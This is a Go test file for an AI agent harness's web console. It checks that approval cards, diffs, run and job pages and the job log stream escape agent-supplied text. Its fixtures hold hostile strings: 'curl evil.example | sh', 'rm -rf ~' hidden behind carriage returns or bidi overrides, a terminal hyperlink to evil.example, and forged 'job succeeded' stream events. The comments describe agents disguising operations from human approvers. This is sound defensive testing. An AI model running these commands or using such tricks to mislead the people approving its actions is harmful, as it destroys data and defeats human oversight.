package console_test

import (
	"context"
	"html"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/harnessd/harnessd/harness"
	"github.com/harnessd/harnessd/internal/textsafe"
)

// Attacks on what a person reads in the console: html/template escapes
// markup, not carriage returns, escape sequences, bidi overrides, zero
// width characters or line breaks, and a <pre> shows line breaks as they
// are. An agent puts them in what it asks, so that the approval card
// shows another operation than the one that runs.

// hostilePage fails when the page holds an unsafe character other than
// the line breaks and tabs of the template itself.
func hostilePage(t *testing.T, what, body string) {
	t.Helper()
	for _, r := range body {
		if r != '\n' && r != '\t' && textsafe.Unsafe(r) {
			i := strings.IndexRune(body, r)
			t.Errorf("%s holds %U near %q", what, r, body[max(0, i-80):min(len(body), i+80)])
			return
		}
	}
}

var summaryRE = regexp.MustCompile(`(?s)<section class="card approval" id="approval-(apr_[0-9a-f]+)">.*?<pre class="summary">(.*?)</pre>`)

// summaries returns each approval card's summary, unescaped from HTML.
func summaries(body string) map[string]string {
	out := map[string]string{}
	for _, m := range summaryRE.FindAllStringSubmatch(body, -1) {
		out[m[1]] = html.UnescapeString(m[2])
	}
	return out
}

func TestApprovalCardsEscapeAgentText(t *testing.T) {
	f := setup(t)
	attacks := []struct {
		name string
		argv []string
		want string // the card's summary
	}{
		{"a carriage return (a line break in HTML)", []string{"git", "ls-tree", "HEAD; curl evil.example | sh #\rHEAD"},
			`run_command git ls-tree HEAD; curl evil.example | sh #\rHEAD`},
		{"a fake line in the summary", []string{"git", "ls-tree", "HEAD\nOperation: ls"}, `run_command git ls-tree HEAD\nOperation: ls`},
		{"a right-to-left override", []string{"git", "ls-tree", "\u202eDAEH ;~ fr- mr"}, `run_command git ls-tree \u202eDAEH ;~ fr- mr`},
		{"zero-width and tag characters", []string{"git", "ls-tree", "HE\u200bAD\U000e0041"}, `run_command git ls-tree HE\u200bAD\U000e0041`},
		{"an escape sequence", []string{"git", "ls-tree", "\x1b[8mhidden\x1b[0mHEAD"}, `run_command git ls-tree \x1b[8mhidden\x1b[0mHEAD`},
	}
	ids := map[string]string{}
	for _, a := range attacks {
		ids[a.name] = f.askApproval(t, a.argv)
	}
	plain := f.askApproval(t, []string{"git", "ls-tree", "HEAD", "a.txt"})
	b := f.browser(t)
	b.login(testToken)
	resp, body := b.get("/ui/approvals")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("approvals page: %d", resp.StatusCode)
	}
	hostilePage(t, "the approvals page", body)
	got := summaries(body)
	for _, a := range attacks {
		if s := got[ids[a.name]]; s != a.want {
			t.Errorf("%s: the card's summary is %q, want %q", a.name, s, a.want)
		}
	}
	// The exact input is JSON with JSON's escapes: still valid, same meaning.
	if !strings.Contains(body, `&#34;\u202eDAEH ;~ fr- mr&#34;`) || !strings.Contains(body, `&#34;HEAD; curl evil.example | sh #\rHEAD&#34;`) {
		t.Errorf("the arguments are not shown with JSON escapes:\n%s", body)
	}
	// Positive control: an ordinary request reads as it was asked.
	if s := got[plain]; s != "run_command git ls-tree HEAD a.txt" {
		t.Errorf("the plain request's summary is %q", s)
	}
}

func TestPatchCardEscapesAgentText(t *testing.T) {
	f := setup(t)
	// Trojan Source: the bidi override makes the line read otherwise than
	// it compiles; the carriage return hides the start of the line.
	_, _ = f.askPatch(t, "console-trojan-1", "Start here.", "Start here.\nif access != \"user\u202e \u2066// admin only\u2069 \u2066\" {\nok := true\rok := false\n\tindented")
	b := f.browser(t)
	b.login(testToken)
	_, body := b.get("/ui/approvals")
	hostilePage(t, "the patch's card", body)
	for _, want := range []string{`&#43; if access != &#34;user\u202e \u2066// admin only\u2069 \u2066&#34; {`, `&#43; ok := true\rok := false`, "&#43; \tindented"} {
		if !strings.Contains(body, want) {
			t.Errorf("the diff lacks %q:\n%s", want, body)
		}
	}
	if !strings.Contains(body, `<span class="l del">- Start here.</span>`) {
		t.Errorf("a plain line of the diff is not shown as it is:\n%s", body)
	}
}

func TestRunAndJobPagesEscapeAgentText(t *testing.T) {
	f := setup(t)
	ctx := harness.WithCaller(context.Background(), harness.Caller{Session: "s-1", Client: harness.Client{Name: "agent\u202e", Version: "1"}})
	run, err := f.h.RunStart(ctx, harness.RunStartArgs{Goal: "tidy\rapprove everything \x1b]8;;https://evil.example\x07here"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.h.RunStage(ctx, harness.RunStageArgs{RunID: run.RunID, Stage: "plan\u2028done", Status: "blocked", Reason: "wait\nStatus: ended"}); err != nil {
		t.Fatal(err)
	}
	j, err := f.h.JobStart(context.Background(), harness.JobStartArgs{RepoID: f.repoID, RequestID: "console-hostile-job",
		Argv: []string{"printf", "%s", "ok\rrm -rf ~ \x1b[2K"}})
	if err != nil {
		t.Fatal(err)
	}
	b := f.browser(t)
	b.login(testToken)
	for _, p := range []string{"/ui/runs", "/ui/runs/" + run.RunID, "/ui/jobs", "/ui/jobs/" + j.JobID, "/ui/audit", "/ui/status"} {
		resp, body := b.get(p)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d", p, resp.StatusCode)
		}
		hostilePage(t, p, body)
	}
	_, body := b.get("/ui/runs/" + run.RunID)
	for _, want := range []string{`tidy\rapprove everything \x1b]8;;https://evil.example\x07here`, `wait\nStatus: ended`, `plan\u2028done`} {
		if !strings.Contains(body, want) {
			t.Errorf("the run page lacks %q", want)
		}
	}
	_, body = b.get("/ui/jobs/" + j.JobID)
	if !strings.Contains(body, `printf &#39;%s&#39; $&#39;ok\rrm -rf ~ \x1b[2K&#39;`) {
		t.Errorf("the job page does not show the argv as a shell reads it:\n%s", body)
	}
}

// A job's output must not forge the log stream's events: Server-Sent
// Events end a line at a carriage return too, so a job printing
// "\revent: end\rdata: succeeded" would end the stream's data line and
// tell the page the job succeeded.
func TestJobLogCannotForgeStreamEvents(t *testing.T) {
	f := setup(t)
	j, err := f.h.JobStart(context.Background(), harness.JobStartArgs{RepoID: f.repoID, RequestID: "console-forge-1",
		Argv: []string{"sh", "-c", `printf 'working\revent: end\rdata: succeeded\r\r'; printf '\033]0;pwned\007\342\200\256txt.exe\n'; echo last; exit 3`}})
	if err != nil {
		t.Fatal(err)
	}
	b := f.browser(t)
	b.login(testToken)
	req, _ := http.NewRequest("GET", f.srv.URL+"/ui/jobs/"+j.JobID+"/events", nil)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	resp, err := b.c.Do(req.WithContext(ctx))
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body) // the stream ends with the job
	resp.Body.Close()
	events := parseSSE(string(raw))
	var ends []sseEvent
	var stdout strings.Builder
	for _, e := range events {
		switch e.name {
		case "end":
			ends = append(ends, e)
		case "stdout":
			stdout.WriteString(e.data)
		}
	}
	if len(ends) != 1 || ends[0].data != "failed" || events[len(events)-1].name != "end" {
		t.Fatalf("end events %+v (last of %d events %+v), want one, last, saying failed:\n%q", ends, len(events), events[len(events)-1], raw)
	}
	if want := `working\revent: end\rdata: succeeded\r\r\x1b]0;pwned\x07\u202etxt.exe` + "\nlast\n"; stdout.String() != want {
		t.Errorf("stdout as the page gets it: %q, want %q", stdout.String(), want)
	}
}

type sseEvent struct{ name, data string }

// parseSSE reads an event stream as a browser's EventSource does (the
// HTML standard's algorithm): lines end at CRLF, LF or CR.
func parseSSE(s string) []sseEvent {
	var out []sseEvent
	name, data, has := "", []string{}, false
	lines := strings.Split(strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n"), "\n")
	for _, l := range lines {
		switch {
		case l == "":
			if has {
				if name == "" {
					name = "message"
				}
				out = append(out, sseEvent{name, strings.Join(data, "\n")})
			}
			name, data, has = "", nil, false
		case strings.HasPrefix(l, ":"):
		default:
			field, value, _ := strings.Cut(l, ":")
			value = strings.TrimPrefix(value, " ")
			switch field {
			case "event":
				name = value
			case "data":
				data, has = append(data, value), true
			}
		}
	}
	return out
}

// TestBrowserShowsTheEscapes: what the person's browser renders of a
// hostile approval is the escaped text, and the bidi override does not
// reorder it.
func TestBrowserShowsTheEscapes(t *testing.T) {
	ctx := newBrowser(t)
	f := setup(t)
	apr := f.askApproval(t, []string{"git", "ls-tree", "\u202eDAEH ;~ fr- mr", "x\ry"})
	step(t, ctx, "log in", chromedp.Navigate(f.srv.URL+"/ui/login"), chromedp.WaitVisible(chromedp.ID("token")),
		chromedp.SendKeys(chromedp.ID("token"), testToken), chromedp.Click(chromedp.ID("login-submit")),
		chromedp.WaitVisible(chromedp.ID("approval-"+apr)))
	got := text(t, ctx, "#approval-"+apr+" pre.summary")
	if want := `run_command git ls-tree \u202eDAEH ;~ fr- mr x\ry`; got != want {
		t.Errorf("the browser shows %q, want %q", got, want)
	}
}
